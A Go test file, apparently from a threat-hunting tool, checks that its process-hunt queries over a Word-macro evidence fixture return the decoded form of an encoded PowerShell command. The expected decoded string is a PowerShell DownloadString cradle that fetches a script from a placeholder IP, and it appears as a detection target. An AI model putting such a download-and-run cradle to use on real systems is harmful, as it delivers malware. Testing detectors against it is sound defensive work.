package simulate

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	"github.com/exechunt/exechunt/packs"
)

// TestHuntRowsCarryTheDecodedCommand: the hunt queries over processes return the
// command the agent's analysis decoded (decoded_command), so the anomaly page can
// show it next to the command line: the default push over live lineage and the
// dispatched high-score process creations alike, over the hand-written Word macro
// that starts an encoded PowerShell.
func TestHuntRowsCarryTheDecodedCommand(t *testing.T) {
	ps, err := packs.Load(packs.FS)
	if err != nil {
		t.Fatal(err)
	}
	sql := map[string]string{}
	for _, p := range ps {
		for _, q := range p.Queries {
			sql[p.Name+"/"+q.Name] = q.SQL
		}
	}
	r, err := NewRunner([]string{filepath.Join(evidenceDir, "windows-office-macro.jsonl")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	for _, name := range []string{"default-push/rare_parent_child_live", "execution-basics/high_score_process_creations",
		"office-and-web-parents/office_app_spawning_shell", "live-lineage/live_high_score_processes"} {
		t.Run(name, func(t *testing.T) {
			rows, err := r.Run(context.Background(), sql[name])
			if err != nil {
				t.Fatal(err)
			}
			decoded := 0
			for _, row := range rows {
				if strings.Contains(row["cmdline"], " -enc ") {
					if !strings.Contains(row["decoded_command"], "DownloadString('http://192.0.2.10/a.ps1')") {
						t.Errorf("%s: decoded_command %q", row["cmdline"], row["decoded_command"])
					}
					decoded++
				}
			}
			if decoded == 0 {
				t.Errorf("no row with an encoded command among %d", len(rows))
			}
		})
	}
}
